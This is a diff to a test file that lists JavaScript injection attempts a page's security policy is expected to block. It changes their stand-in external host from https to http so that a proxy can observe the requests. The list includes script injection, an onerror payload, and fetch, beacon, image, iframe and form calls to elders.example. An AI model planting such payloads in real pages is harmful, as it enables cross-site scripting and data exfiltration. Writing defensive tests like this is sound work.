@@ -97,11 +97,12 @@ def test_from_the_checklist_to_an_advice_under_it(
     assert watch.complaints == []
 
 
+# http, not https: of https a proxy hears that a browser prepares for a page that it then refuses.
 TRIES = {
     "a script in the page": "const s = document.createElement('script'); s.text = 'hacked = 1';"
     "document.body.append(s)",
     "a script from elsewhere": "const s = document.createElement('script');"
-    "s.src = 'https://elders.example/x.js'; document.body.append(s)",
+    "s.src = 'http://elders.example/x.js'; document.body.append(s)",
     "HTML with a script": "document.body.insertAdjacentHTML('beforeend',"
     "'<img src=x onerror=\"hacked = 1\">')",
     "an attribute with a script": "document.body.setAttribute('onclick', 'hacked = 1');"
@@ -110,16 +111,16 @@ TRIES = {
     "text as a function": "new Function('hacked = 1')()",
     "text after a while": "setTimeout('hacked = 1')",
     "a worker from elsewhere": "new Worker('data:text/javascript,1')",
-    "a request to elsewhere": "fetch('https://elders.example/').catch(() => {})",
-    "a beacon to elsewhere": "navigator.sendBeacon('https://elders.example/', 'x')",
-    "a picture from elsewhere": "new Image().src = 'https://elders.example/x.png'",
+    "a request to elsewhere": "fetch('http://elders.example/').catch(() => {})",
+    "a beacon to elsewhere": "navigator.sendBeacon('http://elders.example/', 'x')",
+    "a picture from elsewhere": "new Image().src = 'http://elders.example/x.png'",
     "a page in the page": "const f = document.createElement('iframe');"
-    "f.src = 'https://elders.example/'; document.body.append(f)",
+    "f.src = 'http://elders.example/'; document.body.append(f)",
     "a style in the page": "const s = document.createElement('style');"
     "s.textContent = 'body { color: red }'; document.body.append(s)",
     "another way for HTML": "trustedTypes.createPolicy('eigen', {})",
     "a form to elsewhere": "const f = document.createElement('form');"
-    "f.action = 'https://elders.example/'; document.body.append(f); f.submit()",
+    "f.action = 'http://elders.example/'; document.body.append(f); f.submit()",
 }
 
 
